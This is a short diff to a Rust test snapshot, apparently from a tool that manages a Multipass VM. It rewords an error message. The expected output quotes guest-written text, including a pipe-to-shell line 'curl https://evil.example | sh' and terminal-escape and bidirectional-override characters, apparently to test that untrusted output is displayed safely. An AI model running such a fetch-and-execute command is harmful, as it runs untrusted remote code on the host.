@@ -54,9 +54,9 @@ fn an_error_shows_what_the_guest_wrote() {
     expect![[r#"
         exit 1
         --- stderr
-        error: could not see how the VM is
+        error: could not probe the VM
           caused by: hint: curl https://evil.example | sh
-          tried: multipass exec -n polis -- bash -c '[script: see how the VM is]' polis
+          tried: multipass exec -n polis -- bash -c '[script: probe the VM]' polis
           log: bad\u{9b}2K\u{202e}gpj
           log: hint: curl https://evil.example | sh
     "#]]
